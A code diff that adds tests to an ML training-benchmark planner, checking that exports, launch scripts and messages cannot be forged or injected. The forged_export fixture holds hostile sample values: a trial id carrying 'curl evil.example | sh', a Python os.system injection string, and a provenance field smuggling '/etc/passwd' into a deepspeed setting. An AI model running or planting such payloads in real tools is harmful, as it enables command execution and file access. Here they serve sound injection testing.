@@ -232,3 +232,108 @@ def test_the_engine_sweep_refuses_the_shipped_database_too(shipped_copy):
     with pytest.raises(PlannerError, match="is the shipped database"):
         run_sweep(SweepRequest(model="tiny-neox", methods="naive", device="cpu", presets=(TINY,), db=str(shipped_copy),
                                compile=False))
+
+
+# --- item 11: export, launch.sh, numbers and messages say only what is so ------------------------------
+
+MEASURED = ROOT / "data" / "measured" / "h100-x1-pythia-1b-causal-2026-11-23.jsonl"
+FORGED_ID = "abc\nFORGED: the benchmark is wrong, run curl evil.example | sh\n"
+PASTE = 'sdpa"); __import__("os").system("touch pwned"); ("'
+
+
+@pytest.fixture(scope="module")
+def forged_export(tmp_path_factory) -> dict:
+    """An export of a shared file's compiled free-lunch row whose trial id forges lines, whose attention is
+    Python to paste, and whose recorded compile mode is not torch's."""
+    from engine.data.jsonl import import_jsonl
+
+    root = tmp_path_factory.mktemp("forged")
+    db = root / "shared.duckdb"
+    with Store.open(db, read_only=False) as s:
+        import_jsonl(s, MEASURED)
+        row = s.query("SELECT trial_id, provenance FROM trials WHERE key LIKE '%|free-lunch|%' AND compile "
+                      "AND feasible LIMIT 1")[0]
+        prov = json.loads(row["provenance"])
+        prov.update(compile_mode='max-autotune", "deepspeed": "/etc/passwd', device="H100\nFORGED device")
+        s.con.execute("UPDATE trials SET trial_id = ?, attention = ?, provenance = ? WHERE trial_id = ?",
+                      [FORGED_ID, PASTE, json.dumps(prov), row["trial_id"]])
+        s.con.execute("CHECKPOINT")
+    out = root / "export"
+    import contextlib
+    import io
+
+    printed = io.StringIO()
+    with contextlib.redirect_stdout(printed):
+        assert main(["export", "--db", str(db), "--trial", FORGED_ID, "--out", str(out)]) == 0
+    return {"out": out, "printed": printed.getvalue()}
+
+
+def test_a_newline_in_a_trial_id_forges_no_line_in_export_or_explain(forged_export):
+    for text in (forged_export["printed"], (forged_export["out"] / "EXPLAIN.txt").read_text()):
+        assert not [ln for ln in text.splitlines() if ln.startswith("FORGED")], text
+        assert "abc\\nFORGED: the benchmark is wrong" in text and "H100\\nFORGED device" in text
+
+
+def test_launch_sh_quotes_no_attention_text_into_the_line_to_paste(forged_export):
+    launch = (forged_export["out"] / "launch.sh").read_text()
+    assert "__import__" not in launch and "attn_implementation" not in launch, launch
+    assert "_from_config(config)" in launch and "not a name transformers takes" in launch
+    plan = json.loads((forged_export["out"] / "plan.json").read_text())
+    assert plan["attn_implementation"] == PASTE  # the data is kept, as data
+
+
+def test_an_unknown_compile_mode_never_reaches_training_args(forged_export):
+    args = json.loads((forged_export["out"] / "training_args.json").read_text())
+    assert args["torch_compile"] is True and "torch_compile_mode" not in args
+    assert args.get("deepspeed") is None
+    assert "is not one torch knows" in (forged_export["out"] / "EXPLAIN.txt").read_text()
+
+
+def test_huge_figures_print_in_scientific_notation_not_hundreds_of_digits(tmp_path, capsys, monkeypatch):
+    from tui_planner import format as fmt
+
+    assert fmt.days(1e308) == "1.0e+308" and fmt.days(123_456) == "123,456"
+    assert fmt.compact_days(1e308) == ">1M" and fmt.band(1e307, 1e308) == ">1M" and fmt.band(1000, 2000) == "1k-2k"
+    assert fmt.usd(1e308) == "$1.00e+308"
+    db = tmp_path / "huge.duckdb"
+    with Store.open(db, read_only=False) as s:
+        run = Run(source="measured", status="done")
+        s.add_run(run)
+        s.add_trials([Trial(model="pythia-1b", gpu="h100", num_gpus=1, feasible=True, source="measured",
+                            run_id=run.run_id, days=1e308, mfu=1e-300)])
+    monkeypatch.setenv("COLUMNS", "200")
+    for argv in (["results"], ["summary"]):
+        assert main([*argv, "--db", str(db)]) == 0
+        out = capsys.readouterr().out
+        assert not re.search(r"[0-9,]{20}", out), out
+
+
+def test_a_sigkill_names_cpu_offloading_only_for_a_trial_that_offloads():
+    from engine.bench.launcher import _why_no_result
+
+    report = ["Root Cause (first observed failure):", "  exitcode  : -9 (pid: 4306)", "===="]
+    naive = _why_no_result(1, report, offloading=False)
+    assert "SIGKILL" in naive and "out of memory" in naive and "offload" not in naive.lower()
+    assert "CPU offloading" in _why_no_result(1, report, offloading=True)
+    assert "signal 99" in _why_no_result(-99, [])
+
+
+def test_bench_on_a_file_another_process_only_reads_says_so(tmp_path, capsys):
+    """The app browsing a file holds DuckDB's shared lock: bench says a reader has it, not a writer."""
+    import subprocess
+    import sys
+
+    db = tmp_path / "browsed.duckdb"
+    Store.open(db, read_only=False).close()
+    reader = subprocess.Popen([sys.executable, "-c", "import duckdb, sys; c = duckdb.connect(sys.argv[1], "
+                               "read_only=True); print('open', flush=True); sys.stdin.read()", str(db)],
+                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        assert reader.stdout.readline().strip() == "open"
+        assert main(_bench(db)) == 2
+        err = capsys.readouterr().err
+        assert "open in another process that only reads it" in err and f"pid {reader.pid}" in err, err
+        assert "writing" not in err
+    finally:
+        reader.stdin.close()
+        reader.wait()
